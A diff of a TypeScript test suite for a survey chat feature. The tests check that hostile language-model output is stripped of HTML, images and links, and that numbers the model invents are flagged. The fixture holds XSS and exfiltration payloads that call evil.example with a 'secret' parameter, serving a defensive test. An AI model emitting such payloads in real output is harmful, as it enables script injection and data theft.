@@ -4,7 +4,7 @@ import { NumberMarker, NumberSupport } from '../../../src/domain/chat/number-sup
 import { type Actor, anonymous, useOrganization } from '../../support/actors.ts';
 import { appOn, useApp } from '../../support/app.ts';
 import { askAndWait } from '../../support/chat.ts';
-import { surveyToTalkAbout } from '../../support/coffee-chat.ts';
+import { createChatSurvey } from '../../support/chat-survey.ts';
 import { startFakeLanguageServer } from '../../support/fake-language-server.ts';
 
 const model = await startFakeLanguageServer();
@@ -13,7 +13,7 @@ const home = useOrganization(test);
 let surveyId: number;
 
 beforeAll(async () => {
-  ({ surveyId } = await surveyToTalkAbout(test, home.admin));
+  ({ surveyId } = await createChatSurvey(test, home.admin));
 });
 afterAll(() => model.close());
 beforeEach(() => model.reset());
@@ -25,19 +25,22 @@ const storedAnswer = async (sessionId: string) =>
     unsupported_numbers: string[];
   };
 
-describe('output of a hostile model', () => {
-  it.each([1, 7, 1_000])('has no HTML, images and URLs, in chunks of %i', async (charactersPerChunk) => {
-    const content =
-      'Fine <script>fetch("https://evil.example")</script><img src=x onerror=alert(1)> people. ' +
-      '![p](https://evil.example/p.png?d=secret) See [details](https://evil.example/?d=secret) or www.evil.example';
-    model.reply([{ content, charactersPerChunk }]);
-    const { text, done } = await ask('How are they?');
-    expect(text).not.toMatch(/<|evil|\]\(|!\[/);
-    expect(text).toContain('See details or (link removed)');
-    expect((await storedAnswer(done.session_id)).content).toBe(text);
-  });
+describe('what a hostile model says', () => {
+  it.each([1, 7, 1_000])(
+    'comes without HTML, images and addresses, in chunks of %i',
+    async (charactersPerChunk) => {
+      const content =
+        'Fine <script>fetch("https://evil.example")</script><img src=x onerror=alert(1)> people. ' +
+        '![p](https://evil.example/p.png?d=secret) See [details](https://evil.example/?d=secret) or www.evil.example';
+      model.reply([{ content, charactersPerChunk }]);
+      const { text, done } = await ask('How are they?');
+      expect(text).not.toMatch(/<|evil|\]\(|!\[/);
+      expect(text).toContain('See details or (link removed)');
+      expect((await storedAnswer(done.session_id)).content).toBe(text);
+    },
+  );
 
-  it.each([1, 1_000])('has its unsupported numbers marked, in chunks of %i', async (charactersPerChunk) => {
+  it.each([1, 1_000])('has its invented numbers marked, in chunks of %i', async (charactersPerChunk) => {
     model.reply([
       { calls: [{ name: 'get_distribution', arguments: { question_code: 'Sat' } }] },
       { content: '50 % of the 80 say very good, and 93 % would pay 17.35 more.', charactersPerChunk },
@@ -53,14 +56,14 @@ describe('output of a hostile model', () => {
     });
   });
 
-  it('has every number marked without a function call, including numbers of the question', async () => {
+  it('has every number marked where nothing was looked up, numbers of the question included', async () => {
     model.reply([{ content: 'Yes, 64 % of 500 agree.' }]);
     const { text, done } = await ask('Is it true that 64 % agree?');
     expect(text).toBe('Yes, 64 % [unsupported] of 500 [unsupported] agree.');
     expect(done.unsupported_numbers).toEqual(['64', '500']);
   });
 
-  it('has numbers from texts of respondents marked', async () => {
+  it('does not get numbers of a respondent past as its own', async () => {
     model.reply([
       { calls: [{ name: 'get_verbatims', arguments: { question_code: 'Why', limit: 2 } }] },
       { content: 'In all 77 % agree.' },
@@ -70,7 +73,7 @@ describe('output of a hostile model', () => {
   });
 });
 
-describe('output of the built-in chat', () => {
+describe('what the built-in chat says', () => {
   it.each([
     'How many responses are there?',
     'What questions are there?',
@@ -83,7 +86,7 @@ describe('output of the built-in chat', () => {
     'Age by Gender',
     'What do people say in Why?',
     'Does anybody mention bitter?',
-  ])('has a figure for every number: %s', async (message) => {
+  ])('has a figure behind every number: %s', async (message) => {
     const builtIn = anonymous(appOn(test.database));
     const post: Actor['post'] = (path, body) => builtIn.post(path, body).set('X-API-Key', home.admin.apiKey!);
     const { text, done } = await askAndWait({ ...builtIn, post }, { message, survey_id: surveyId });
